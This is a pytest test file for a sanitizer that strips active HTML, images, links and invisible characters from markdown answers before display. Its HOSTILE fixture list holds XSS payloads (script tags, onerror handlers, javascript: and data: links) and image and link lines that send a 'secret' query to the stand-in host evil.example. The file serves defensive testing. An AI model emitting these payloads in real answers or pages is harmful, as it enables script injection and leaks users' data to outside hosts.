"""Markdown of answers is safe to show, judged by a real viewer that allows everything."""

import random
import re

import pytest
from markdown_it import MarkdownIt

from penstock.answer.markdown import MarkdownSieve, safe_markdown, safe_to_show
from penstock.model.answers import Answer, AnswerKind, Claim, Confidence

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC='https://evil.example/?q=secret'>",
    "text <!-- hidden --> text",
    "<?php echo 1 ?>",
    "<![CDATA[ x ]]>",
    "</div><iframe src=//evil.example>",
    "<https://evil.example>",
    "<javascript:alert(1)>",
    "<a@evil.example>",
    "![x](https://evil.example/?q=secret)",
    "!\u200b[x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "!![x](//evil.example)",
    "\\![x](https://evil.example)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](\tjavascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](<javascript:alert(1)>)",
    "[click](https://evil.example 'title')",
    "[click]\u200b(https://evil.example)",
    "[a [b](https://evil.example) c](https://evil.example)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]\n\n[x]: <https://evil.example>",
    "- > [x]: https://evil.example\n\n[x]",
    "[x\\]]: https://evil.example\n\n[x\\]]",
    "see https://evil.example/?q=secret now",
    "see HTTP://evil.example and ftp://evil.example",
    "see www.evil.example/secret and //www.evil.example",
    "mailto:someone@evil.example",
    "_www.evil.example/x_ ~www.evil.example~ (www.evil.example",
    "write to some.one+key@evil.example or _a@evil.example_",
    "see //evil.example/p and ///evil.example",
    "`code` [1](https://evil.example) ``` <b>",
    "~~~\n```\n~~~\n<b>bold</b>",
    "- ```\n- <b>bold</b>",
    "    <b>indented</b>\n\n<b>not</b>",
    "&lt;b&gt; and &#60;b&#62;",
    "[^1]\n\n[^1]: <b>https://evil.example</b>",
    "| a |\n|---|\n| <b>[x](https://evil.example)</b> |",
    "\u202e<b>\u202c",
    "[1] costs forty crowns [1](https://evil.example).",
)
BITS = (
    *("<", ">", "!", "[", "]", "(", ")", ":", "/", "//", "\\", "`", "```", "~~~", "\n", "\n\n", " ", "    "),
    *("http", "https:", "www.", "javascript:", "data:", "evil.example", "b", "script", "- ", "> ", "&lt;"),
    *("\u200b", "\x00", "|", "'", '"', "1", "x]: ", "<!--", "-->", "*", "_"),
)
VIEWERS = [
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("gfm-like", {"html": True, "linkify": False}),
]
SHOWN = frozenset(
    re.findall(
        r"\w+",
        "p em strong s code pre ul ol li h1 h2 h3 h4 h5 h6 blockquote hr br table thead tbody tr th td",
    )
)
TAG = re.compile(r"<[/!?]?([^\s>]*)")


def acts(text: str) -> list[str]:
    """What a viewer would do with it beside showing."""
    tags = [tag.rstrip("/") for viewer in VIEWERS for tag in TAG.findall(viewer.render(text))]
    return [tag for tag in tags if tag not in SHOWN]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_an_answer_acts(text: str) -> None:
    """No tag, no image, no link comes out of a viewer that would make them."""
    assert acts(safe_markdown(text)) == []


def test_whatever_is_put_together_stays_harmless() -> None:
    """Random mixtures of everything that means something to a viewer."""
    dice = random.Random(11)
    texts = ["".join(dice.choices(BITS, k=dice.randint(2, 25))) for _ in range(3000)]

    assert {text: found for text in texts if (found := acts(safe_markdown(text)))} == {}
    # The judge itself sees something in them as they came.
    assert sum(bool(acts(text)) for text in texts) > 100


@pytest.mark.parametrize("text", HOSTILE)
def test_no_address_becomes_a_link_by_itself(text: str) -> None:
    """Viewers make links of what looks like an address; nothing looks like one any more."""
    assert (
        re.search(r"://\S|(?<![a-z])www\.\S|mailto:\S|\w@\w|//\w", safe_markdown(text), re.IGNORECASE) is None
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_a_stream_is_as_safe_as_the_whole(text: str) -> None:
    """However it is cut, the pieces put together are what the whole text is made to."""
    for size in (1, 2, 3, 7):
        sieve = MarkdownSieve()
        pieces = [text[at : at + size] for at in range(0, len(text), size)]
        assert "".join(map(sieve.feed, pieces)) == safe_markdown(text)


def test_what_nobody_sees_is_taken_out() -> None:
    """Marks of direction, tags and the like; joiners of letters and emoji stay."""
    assert safe_markdown("a\u200eb\u200fc\u061cd\U000e0041e\u206af\xadg") == "abcdefg"
    assert (
        safe_markdown("\u0646\u200c\u0647 \U0001f469\u200d\U0001f52c")
        == "\u0646\u200c\u0647 \U0001f469\u200d\U0001f52c"
    )


def test_claims_stand_where_they_are_in_what_is_shown() -> None:
    """Spaces put in and characters taken out before them are counted."""
    text = "See <b>.\u200b[x](y) costs [1]. A www.key too [2]."
    spans = ((0, 8), (9, 26), (27, len(text)))
    claims = tuple(Claim(start=start, end=end, citations=()) for start, end in spans)
    answer = Answer(
        question="", kind=AnswerKind.GROUNDED, text=text, confidence=Confidence.STRONG, claims=claims
    )

    shown = safe_to_show(answer)

    assert shown.text == safe_markdown(text)
    assert [shown.text[each.start : each.end] for each in shown.claims] == [
        safe_markdown(text[start:end]) for start, end in spans
    ]


@pytest.mark.parametrize(
    "text",
    [
        "# Keys\n\n- **A lost key** costs *forty* crowns [1, 2].\n- `a < b` and a <= b, really!\n",
        "| a | b |\n|---|---|\n| 1 | 2 |\n",
        "At 10:30, 3/4 of it: yes; \u201cquoted\u201d \u5e74\u4e2d\u7121\u4f11 \U0001f511",
        "```python\nif a < b: x[0] = y // 2  # see notes.md\n```\n",
    ],
)
def test_plain_markdown_stays_as_it_is(text: str) -> None:
    """Headings, lists, tables, code, citations and every language."""
    assert safe_markdown(text) == text
